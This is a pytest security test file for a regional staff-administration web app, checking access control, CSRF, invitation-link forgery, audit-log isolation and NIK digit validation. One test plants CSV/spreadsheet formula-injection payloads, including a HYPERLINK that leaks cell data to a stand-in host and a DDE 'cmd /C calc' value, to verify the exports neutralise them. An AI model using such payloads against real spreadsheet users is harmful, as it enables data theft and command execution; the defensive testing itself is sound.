"""Attacks on the region admin's pages and the officer management (decision 0049): an agency's
admin inviting into another agency, deactivating oneself or the last admin OPD, one region's
admin reading another region's audit log, formulas smuggled into the exported audit details,
forged invitation links, and NIKs written in digits of other scripts."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from simpul.accounts import staff_invitations
from simpul.accounts.models import User
from simpul.accounts.nik import NikError, parse_nik
from simpul.core.audit import record_audit_event
from simpul.core.models import AuditEvent, utcnow
from tests.factories import post_form
from tests.support.desk_world import DeskWorld, build_desk_world, log_in

AGENCY = "dinas-uji"
FORMULAS = ("=", "+", "-", "@")


@pytest.fixture
def desk(session: Session, tmp_path: Path) -> DeskWorld:
    return build_desk_world(session, tmp_path)


def staff_path(desk: DeskWorld, agency: str = AGENCY) -> str:
    return f"/{desk.region.slug}/petugas/instansi/{agency}/petugas"


def count_users(session: Session) -> int:
    return int(session.scalar(select(func.count()).select_from(User)) or 0)


def test_an_agency_admin_cannot_invite_into_another_agency(
    client: TestClient, session: Session, desk: DeskWorld
) -> None:
    before = count_users(session)
    log_in(client, desk.region.slug, "admin.opd@example.org")
    own_page = staff_path(desk)
    refused = post_form(
        client,
        f"{staff_path(desk, 'dinas-lain')}/undang",
        {"full_name": "Penyusup", "invite_email": "penyusup@example.org", "roles": "admin_opd"},
        page=own_page,
    )
    assert refused.status_code == 403
    assert count_users(session) == before
    # Nor may an officer without admin OPD invite anybody.
    log_in(client, desk.region.slug, "petugas.a@example.org")
    assert (
        post_form(
            client,
            f"{own_page}/undang",
            {"full_name": "Penyusup", "invite_email": "penyusup@example.org", "roles": "operator"},
            page=f"/{desk.region.slug}/petugas",
        ).status_code
        == 403
    )
    assert count_users(session) == before


def test_the_invite_form_needs_its_csrf_token(
    client: TestClient, session: Session, desk: DeskWorld
) -> None:
    before = count_users(session)
    log_in(client, desk.region.slug, "admin.opd@example.org")
    forged = client.post(
        f"{staff_path(desk)}/undang",
        data={"full_name": "Tanpa Token", "invite_email": "tanpa@example.org", "roles": "operator"},
        follow_redirects=False,
    )
    assert forged.status_code == 403
    assert count_users(session) == before


def test_nobody_deactivates_themselves_or_the_last_admin(
    client: TestClient, session: Session, desk: DeskWorld
) -> None:
    log_in(client, desk.region.slug, "admin.opd@example.org")
    page = staff_path(desk)
    myself = post_form(client, f"{page}/{desk.admin.id}/nonaktifkan", {}, page=page)
    assert myself.status_code == 409 and "sendiri" in myself.text
    log_in(client, desk.region.slug, "admin.wilayah@example.org")
    last = post_form(client, f"{page}/{desk.admin.id}/nonaktifkan", {}, page=page)
    assert last.status_code == 409 and "admin OPD aktif terakhir" in last.text
    session.refresh(desk.admin)
    assert desk.admin.is_active
    assert not session.scalars(
        select(AuditEvent).where(AuditEvent.action == "staff.deactivate")
    ).all()


def test_an_agency_admin_cannot_switch_off_an_officer_of_other_agencies(
    client: TestClient, session: Session, desk: DeskWorld
) -> None:
    """The account serves every agency: the other agency's admin would lose their officer."""
    log_in(client, desk.region.slug, "admin.lain@example.org")
    page = staff_path(desk, "dinas-lain")
    # The officer is not in dinas-lain: the page does not know them.
    assert post_form(
        client, f"{page}/{desk.officer_a.id}/nonaktifkan", {}, page=page
    ).status_code in (403, 404)
    session.refresh(desk.officer_a)
    assert desk.officer_a.is_active


def test_one_region_never_reads_another_regions_audit_log(
    client: TestClient, session: Session, desk: DeskWorld, tmp_path: Path
) -> None:
    other = build_desk_world(session, tmp_path / "lain", slug="kota-lain")
    record_audit_event(
        session,
        region_id=other.region.id,
        actor_id=None,
        actor_label="rahasia.lain@example.org",
        action="inventory.import",
        target_type="region",
        target_id=str(other.region.id),
    )
    session.flush()
    log_in(client, desk.region.slug, "admin.wilayah@example.org")
    # Their own region's page, filtered to the other region's subject: nothing of theirs.
    mine = client.get(
        f"/{desk.region.slug}/admin/audit",
        params={"subjek": "region", "id_subjek": str(other.region.id)},
    )
    assert mine.status_code == 200 and "rahasia.lain" not in mine.text
    export = client.get(f"/{desk.region.slug}/admin/audit/ekspor.csv", params={"pelaku": "rahasia"})
    assert "rahasia.lain" not in export.content.decode("utf-8-sig")
    # The other region's page: the login cookie of one region is no login in another.
    theirs = client.get(f"/{other.region.slug}/admin/audit", follow_redirects=False)
    assert theirs.status_code in (303, 401, 403)
    assert "rahasia.lain" not in theirs.text


def test_exported_audit_details_cannot_carry_formulas(
    client: TestClient, session: Session, desk: DeskWorld
) -> None:
    record_audit_event(
        session,
        region_id=desk.region.id,
        actor_id=None,
        actor_label='=HYPERLINK("http://jahat.example/?"&A1,"klik")',
        action="leave_day.add",
        target_type="region",
        target_id="+1+1",
        details={"description": "@SUM(1+1)*cmd|' /C calc'!A0", "day": "-2+3"},
    )
    session.flush()
    log_in(client, desk.region.slug, "admin.wilayah@example.org")
    url = f"/{desk.region.slug}/admin/audit/ekspor"
    text = client.get(f"{url}.csv").content.decode("utf-8-sig")
    delimiter = text.splitlines()[0][len("Waktu")]
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULAS)]
    book = load_workbook(io.BytesIO(client.get(f"{url}.xlsx").content))
    sheet = book.active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_a_forged_or_foreign_invitation_link_opens_nothing(
    client: TestClient, session: Session, desk: DeskWorld, tmp_path: Path
) -> None:
    other = build_desk_world(session, tmp_path / "lain", slug="kota-lain")
    invited = staff_invitations.invite_officer(
        session,
        other.region,
        other.admin,
        AGENCY,
        full_name="Petugas Lain",
        email="petugas.baru@example.org",
        roles=["operator"],
    )
    session.flush()
    issued = int(utcnow().timestamp())
    code = staff_invitations.invitation_code(invited, issued)
    # The right code under another region's address.
    foreign = f"/{desk.region.slug}/petugas/undangan/{invited.id}/{issued}/{code}"
    assert client.get(foreign).status_code == 404
    # A code for a moment in the future (a link that would never expire).
    later = issued + 10 * 365 * 24 * 3600
    future = staff_invitations.invitation_code(invited, later)
    path = f"/{other.region.slug}/petugas/undangan/{invited.id}/{later}/{future}"
    assert client.get(path).status_code == 404
    # An existing officer's account cannot be taken over with an invitation link.
    taken = staff_invitations.invitation_code(other.officer_a, issued)
    path = f"/{other.region.slug}/petugas/undangan/{other.officer_a.id}/{issued}/{taken}"
    assert client.get(path).status_code == 404
    assert (
        client.get(
            f"/{other.region.slug}/petugas/undangan/{uuid.uuid4()}/{issued}/{code}"
        ).status_code
        == 404
    )


@pytest.mark.parametrize(
    "nik",
    [
        "\u0663\u0662\u0667\u0663\u0660\u0661\u0665\u0667\u0660\u0668\u0669\u0660\u0660\u0660\u0660\u0661",
        "\uff13\uff12\uff17\uff13\uff10\uff11\uff15\uff17\uff10\uff18\uff19\uff10\uff10\uff10\uff10\uff11",
        "\u09e9\u09e8\u09ed\u09e9015708900001",  # Bengali digits
        "3273\u200b0157\u200c0890\u200d0001",  # zero-width characters between the groups
    ],
)
def test_a_nik_in_digits_of_other_scripts_is_refused(nik: str) -> None:
    with pytest.raises(NikError, match="angka 0-9"):
        parse_nik(nik)
